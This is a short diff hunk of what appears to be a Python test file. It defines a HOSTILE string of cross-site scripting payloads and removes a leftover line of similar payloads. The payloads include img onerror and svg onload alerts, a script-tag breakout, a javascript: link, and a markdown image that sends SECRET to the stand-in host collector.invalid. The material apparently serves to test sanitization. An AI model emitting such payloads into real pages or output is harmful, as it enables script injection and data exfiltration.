@@ -18,8 +18,6 @@ HOSTILE = """<img src=x onerror=alert(1)><svg onload=alert(1)>
 ![p](https://collector.invalid/?q=SECRET) <a href="//collector.invalid">x</a>
 ```html
 </code></pre><script>alert(1)</script>"""
-    "<img src=x onerror=alert(1)>[click](javascript:alert(1))</script><script>alert(1)</script>"
-)
 
 
 def need_a_key(path):
